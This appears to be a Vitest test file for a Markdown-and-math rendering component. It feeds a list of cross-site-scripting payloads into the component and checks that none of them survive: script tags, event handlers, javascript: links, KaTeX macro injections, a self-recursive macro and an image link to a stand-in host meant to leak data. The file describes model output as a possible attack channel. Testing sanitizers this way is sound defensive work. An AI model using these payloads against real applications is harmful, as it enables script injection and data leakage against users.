import { MantineProvider } from '@mantine/core';
import { expect, it } from 'vitest';
import { draw } from '../../../testing/render-page.tsx';
import { Markdown } from './markdown.tsx';

const show = (source: string) =>
  draw(
    <MantineProvider>
      <Markdown source={source} />
    </MantineProvider>,
  );

/** Attempts of a model, or of an attacker through it, to run a script or fetch an address in the console. */
const hostile = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"></svg>',
  '[click](javascript:window.hit=1)',
  '![x](https://elsewhere.invalid/?leak=1)',
  '![x](data:image/svg+xml,<svg onload="window.hit=1"/> "y")',
  '<math href="javascript:window.hit=1"><mtext><style><img src=x onerror=window.hit=1></style></mtext></math>',
  String.raw`$\href{javascript:window.hit=1}{x}$`,
  String.raw`$\url{javascript:window.hit=1}$`,
  String.raw`$$\htmlStyle{background:url(https://elsewhere.invalid)}{x}$$`,
  String.raw`\(\includegraphics{https://elsewhere.invalid/x.png}\)`,
  String.raw`$\text{<img src=x onerror=window.hit=1>}$`,
  String.raw`$\def\a{\a\a}\a$`,
  String.raw`$x$ <math href="javascript:window.hit=1"><mi xlink:href="javascript:1">y</mi></math>`,
  '- [x] <input onfocus="window.hit = 1" autofocus>',
  '| a |\n|---|\n| <iframe src="https://elsewhere.invalid"></iframe> |',
  '```html\n<img src=x onerror=window.hit=1>\n```',
];

it('what models write runs no script and fetches nothing, drawn formulas included', async () => {
  const container = show(hostile.join('\n\n'));
  await expect.poll(() => container.querySelectorAll('math').length).toBeGreaterThan(3);
  const attributes = [...container.querySelectorAll('*')].flatMap((element) => [...element.attributes]);
  expect(attributes.filter(({ name }) => name.startsWith('on'))).toEqual([]);
  expect(attributes.filter(({ value }) => /^\s*javascript:/i.test(value))).toEqual([]);
  const acting = 'script, iframe, input, style:not([data-mantine-styles]), svg:not([class*=lucide])';
  expect(container.querySelectorAll(acting).length).toBe(0);
  const sources = [...container.querySelectorAll('[src]')].map((element) => element.getAttribute('src'));
  expect(sources.filter((source) => !source?.startsWith('data:image/'))).toEqual([]);
  expect('hit' in window).toBe(false);
});

it('a table keeps the sides of its columns, and a list of tasks what is done', () => {
  const container = show('| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open');
  expect(container.querySelector('td[align=right]')?.textContent).toBe('2');
  expect([...container.querySelectorAll('li')].map(({ textContent }) => textContent)).toEqual([
    expect.stringContaining('☑'),
    expect.stringContaining('☐'),
  ]);
});

it('formulas are drawn as mathematics, without their source in the text; money is no formula', async () => {
  const container = show(String.raw`The sum $\sum_{i=1}^n i$ is
$$
a^2
- b^2 = 0
$$
and costs $5 or $6.`);
  await expect.poll(() => container.querySelectorAll('math').length).toBe(2);
  expect(container.querySelectorAll('math[display=block]').length).toBe(1);
  expect(container.textContent).not.toContain(String.raw`\sum`);
  expect(container.textContent).toContain('$5 or $6');
});
